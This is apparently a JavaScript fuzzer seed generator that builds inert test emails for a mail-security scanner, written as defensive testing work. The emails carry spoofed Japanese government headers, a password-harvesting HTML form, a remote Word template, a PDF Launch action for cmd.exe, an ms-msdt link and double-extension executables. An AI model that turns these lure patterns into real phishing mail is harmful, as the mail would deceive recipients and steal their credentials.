// Synthetic seed mails for the fuzzer: small, written here byte by byte, each carrying an
// attachment of a format the content inspection reads (zip, OOXML, OLE, PDF, RTF, HTML, tar/gzip)
// and the header fields the route and authentication parsers read. The corpora hold real mail
// but few small examples of some formats; these make sure every reader is reached by mutations
// of a few kilobytes. Nothing here is a real program or a copy of a real sample.
import { Buffer } from "node:buffer";
import { TextEncoder } from "node:util";
import { deflateSync, gzipSync } from "node:zlib";
import { buildOle } from "../lib/ole.js";
import { buildZip, concat } from "../lib/zip.js";

const enc = new TextEncoder();
const u16 = (v) => [v & 0xff, (v >>> 8) & 0xff];
const u32 = (v) => [v & 0xff, (v >>> 8) & 0xff, (v >>> 16) & 0xff, (v >>> 24) & 0xff];
const bytes = (data) => (typeof data === "string" ? enc.encode(data) : data);

const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const rels = (items) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items
    .map(([id, type, target, external]) => `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`)
    .join("")}</Relationships>`;

/** WordprocessingML package with a remote template, an external OLE link and a VBA project. */
function docm() {
  return buildZip([
    {
      name: "[Content_Types].xml",
      method: 8,
      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    },
    { name: "_rels/.rels", method: 8, data: rels([["rId1", "officeDocument", "word/document.xml"]]) },
    { name: "word/document.xml", method: 8, data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>' },
    { name: "word/_rels/document.xml.rels", method: 8, data: rels([["rId2", "oleObject", "http://198.51.100.7/o.bin", true], ["rId3", "hyperlink", "https://login.example-bank.test/", true]]) },
    { name: "word/settings.xml", method: 8, data: "<w:settings/>" },
    { name: "word/_rels/settings.xml.rels", method: 8, data: rels([["rId1", "attachedTemplate", "https://203.0.113.9/t.dotm", true]]) },
    { name: "word/vbaProject.bin", data: new Uint8Array(64) },
  ]);
}

/** Spreadsheet package with an embedded OLE object. */
function xlsx(embedded) {
  return buildZip([
    {
      name: "[Content_Types].xml",
      method: 8,
      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    },
    { name: "_rels/.rels", data: rels([["rId1", "officeDocument", "xl/workbook.xml"]]) },
    { name: "xl/workbook.xml", method: 8, data: "<workbook/>" },
    { name: "xl/embeddings/oleObject1.bin", data: embedded },
  ]);
}

/** A Word 97-2003 document with a VBA project and an Equation Editor object. */
function oleWord() {
  const fib = new Uint8Array(4096);
  fib.set([0xec, 0xa5, 0xc1, 0x00], 0);
  // Every stream at the mini-stream cutoff (4096 bytes): the seed has no mini stream, as it always had.
  const padded = (size) => new Uint8Array(Math.max(4096, size));
  return buildOle({
    streams: {
      WordDocument: fib,
      "1Table": padded(16),
      "Macros/VBA/dir": padded(16),
      "Macros/VBA/_VBA_PROJECT": padded(16),
      "ObjectPool/_1234/Equation Native": padded(32),
    },
  });
}

/** PDF with an auto action, JavaScript, a URI link, a launch action and an object stream. */
function pdf() {
  const hidden = "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://xn--pple-43d.test/login) >> >>\n<< /S /Launch /F (cmd.exe) >>\n";
  const offsets = "10 0 11 95 ";
  const packed = new Uint8Array(deflateSync(enc.encode(offsets + hidden)));
  return concat([
    enc.encode("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R /Names << /EmbeddedFiles 4 0 R >> >>\nendobj\n"),
    enc.encode("3 0 obj\n<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>\nendobj\n"),
    enc.encode("5 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bit.ly/3xyz) >> >>\nendobj\n"),
    enc.encode(`9 0 obj\n<< /Type /ObjStm /N 2 /First ${offsets.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
    packed,
    enc.encode("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"),
  ]);
}

/** RTF with an OLE 1.0 Equation object and a remote template. */
function rtf() {
  const lpstr = (s) => [...u32(s.length + 1), ...enc.encode(s), 0];
  const object = [...u32(0x0501), ...u32(2), ...lpstr("Equation.3"), ...u32(0), ...u32(0), ...u32(8), 1, 2, 3, 4, 5, 6, 7, 8];
  const hex = object.map((b) => b.toString(16).padStart(2, "0")).join("");
  return enc.encode(
    `{\\rtf1\\ansi{\\*\\template http://198.51.100.3/t.dot}\\pard Invoice\\par{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata ${hex.slice(0, 40)}\r\n{\\*\\junk}${hex.slice(40)}}}}`,
  );
}

const tar = (name, data) => {
  const header = new Uint8Array(512);
  header.set(enc.encode(name), 0);
  header.set(enc.encode("0000644\0"), 100);
  header.set(enc.encode(`${data.length.toString(8).padStart(11, "0")}\0`), 124);
  header.set(enc.encode("ustar\x0000"), 257);
  header[156] = 0x30;
  let sum = 0;
  header.fill(0x20, 148, 156);
  for (const b of header) sum += b;
  header.set(enc.encode(`${sum.toString(8).padStart(6, "0")}\0 `), 148);
  const body = new Uint8Array(Math.ceil(data.length / 512) * 512);
  body.set(data);
  return concat([header, body, new Uint8Array(1024)]);
};

const mz = () => {
  const b = new Uint8Array(512);
  b.set([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0], 0);
  b.set(u32(0x80), 0x3c);
  b.set([0x50, 0x45, 0, 0, 0x4c, 0x01], 0x80);
  return b;
};

/** RAR 4: marker, main header, file headers (one flagged encrypted), end block. */
function rar4() {
  const out = [0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00, 0, 0, 0x73, ...u16(0), ...u16(13), 0, 0, 0, 0, 0, 0];
  for (const [name, encrypted] of [["invoice.pdf.exe", false], ["secret.docm", true]]) {
    const bytesOfName = enc.encode(name);
    out.push(0, 0, 0x74, ...u16(0x8000 | (encrypted ? 0x04 : 0)), ...u16(32 + bytesOfName.length), ...u32(4), ...u32(4), 2, ...u32(0), ...u32(0), 29, 0x30, ...u16(bytesOfName.length), ...u32(0x20), ...bytesOfName, 1, 2, 3, 4);
  }
  out.push(0, 0, 0x7b, ...u16(0x4000), ...u16(7));
  return Uint8Array.from(out);
}

/** 7z with a plain header listing names (FilesInfo kName), no streams. */
function sevenZip() {
  const names = [0];
  for (const name of ["scan.js", "photo.jpg.scr"]) {
    for (const ch of name) names.push(...u16(ch.charCodeAt(0)));
    names.push(0, 0);
  }
  const header = [0x01, 0x05, 2, 0x11, names.length, ...names, 0x00, 0x00];
  return Uint8Array.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, ...u32(0), ...u32(0), ...u32(0), ...u32(header.length), ...u32(0), ...u32(0), ...header]);
}

/** Base64 with 76-character lines (RFC 2045 §6.8). */
function base64Lines(data) {
  const text = Buffer.from(data).toString("base64");
  const lines = [];
  for (let i = 0; i < text.length; i += 76) lines.push(text.slice(i, i + 76));
  return lines.join("\r\n");
}

const HEADERS = [
  "Received: from mx.example.co.jp (mx.example.co.jp [192.0.2.10]) by mbox.example.co.jp with ESMTPS id 4Zx1; Tue, 3 Jun 2025 09:15:02 +0900",
  "Authentication-Results: mx.example.co.jp; spf=fail smtp.mailfrom=mof.go.jp; dkim=none; dmarc=fail (p=REJECT sp=REJECT dis=NONE) header.from=mof.go.jp",
  "ARC-Authentication-Results: i=1; mx.google.com; spf=pass smtp.mailfrom=sender.example",
  "Received: from unknown (HELO mail.mof.go.jp) (116.25.3.4) by mx.example.co.jp with SMTP; Tue, 3 Jun 2025 09:15:00 +0900",
  "Received: from [10.1.2.3] (helo=pc01) by 116.25.3.4 with esmtpa (Exim 4.96) id 1x; Tue, 03 Jun 2025 08:14:59 +0800",
  "X-Forefront-Antispam-Report: CIP:116.25.3.4;CTRY:CN;LANG:ja;SCL:5;",
  "X-Originating-IP: [116.25.3.4]",
  "From: =?ISO-2022-JP?B?GyRCOk1MM0YtGyhC?= <info@mof.go.jp>",
  "Reply-To: =?UTF-8?Q?=E7=AA=93=E5=8F=A3?= <mof-reply@freemail.example>",
  "Return-Path: <bounce@mail-mof.go.jp.example>",
  "To: staff1@example.co.jp, staff2@example.co.jp, \"Exec, One\" <exec1@example.co.jp>",
  "Cc: undisclosed-recipients:;",
  "Subject: =?UTF-8?B?UmU6IOOAkOmHjeimgeOAkeiri+axguabuA==?=",
  "Date: Tue, 3 Jun 2025 01:14:58 +0800",
  "Message-ID: <20250603011458.1234@mx.other.example>",
  "MIME-Version: 1.0",
];

const HTML = [
  '<html><head><base href="https://base.example/"><meta http-equiv="refresh" content="5; url=https://evil.example/r"></head><body>',
  '<p>ご確認ください: <a href="https://login.evil.example/mof">https://www.mof.go.jp/</a></p>',
  '<a href="http://www.go.jp@203.0.113.5/x">こちら</a> <a href="https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2F&amp;data=1">link</a>',
  '<a href="javascript:alert(1)">x</a><a href="ms-msdt:/id PCWDiagnostic">y</a><a href="relative/file.zip"><img src="cid:1" alt="invoice"></a>',
  '<span style="display:none">hidden <a href="https://hidden.example/">www.bank.example</a></span>',
  '<form action="https://harvest.example/p" method="post"><input type="password" name="p"><textarea></textarea></form>',
  "</body></html>",
].join("\r\n");

/** multipart/mixed: an HTML (or text) body and one attachment. */
function mail(name, type, data, { html = HTML, encoding = "base64" } = {}) {
  const boundary = `----=_Part_${name.length}_fuzz`;
  const body =
    encoding === "base64"
      ? base64Lines(bytes(data))
      : Buffer.from(bytes(data)).toString("latin1");
  return enc.encode(
    [
      ...HEADERS,
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
      "",
      `--${boundary}`,
      "Content-Type: multipart/alternative; boundary=alt",
      "",
      "--alt",
      "Content-Type: text/plain; charset=iso-2022-jp",
      "Content-Transfer-Encoding: 7bit",
      "",
      "\x1b$B$3$s$K$A$O\x1b(B https://www.mof.go.jp.evil.example/login http://bit.ly/abc",
      "--alt",
      "Content-Type: text/html; charset=utf-8",
      "Content-Transfer-Encoding: quoted-printable",
      "",
      Buffer.from(html, "utf8").toString("latin1").replace(/=/g, "=3D"),
      "--alt--",
      `--${boundary}`,
      `Content-Type: ${type}; name="${name}"`,
      `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(name)}`,
      `Content-Transfer-Encoding: ${encoding}`,
      "",
      body,
      `--${boundary}--`,
      "",
    ].join("\r\n"),
  );
}

/** The synthetic seeds, by name (stable order: replays depend on it). */
export function syntheticSeeds() {
  const exe = mz();
  return [
    { name: "synthetic/zip.eml", bytes: mail("請求書.zip", "application/zip", buildZip([{ name: "請求書.pdf.exe", data: exe, method: 8 }, { name: "readme.txt", data: "x".repeat(300), method: 8 }, { name: "secret.docx", data: "enc", encrypted: true }, { name: "inner.zip", data: buildZip([{ name: "a.js", data: "WScript.Echo(1)" }]) }])) },
    { name: "synthetic/docm.eml", bytes: mail("report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docm()) },
    { name: "synthetic/xlsx-ole.eml", bytes: mail("book.xlsx", "application/octet-stream", xlsx(oleWord())) },
    { name: "synthetic/ole.eml", bytes: mail("old.doc", "application/msword", oleWord()) },
    { name: "synthetic/pdf.eml", bytes: mail("scan.pdf", "application/pdf", pdf()) },
    { name: "synthetic/rtf.eml", bytes: mail("memo.doc", "application/rtf", rtf()) },
    { name: "synthetic/html.eml", bytes: mail("login.html", "text/html", HTML, { encoding: "quoted-printable" }) },
    { name: "synthetic/rar.eml", bytes: mail("documents.rar", "application/x-rar-compressed", rar4()) },
    { name: "synthetic/7z.eml", bytes: mail("archive.7z", "application/x-7z-compressed", sevenZip()) },
    { name: "synthetic/tgz.eml", bytes: mail("logs.tar.gz", "application/gzip", new Uint8Array(gzipSync(tar("run.exe", exe)))) },
    {
      name: "synthetic/plain.eml",
      bytes: enc.encode(
        [...HEADERS, "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", "お支払い: https://www.mof.go.jp@198.51.100.4/pay http://[2001:db8::1]/x hxxp://defanged.example www.example-bank.test/login", ""].join("\r\n"),
      ),
    },
  ];
}
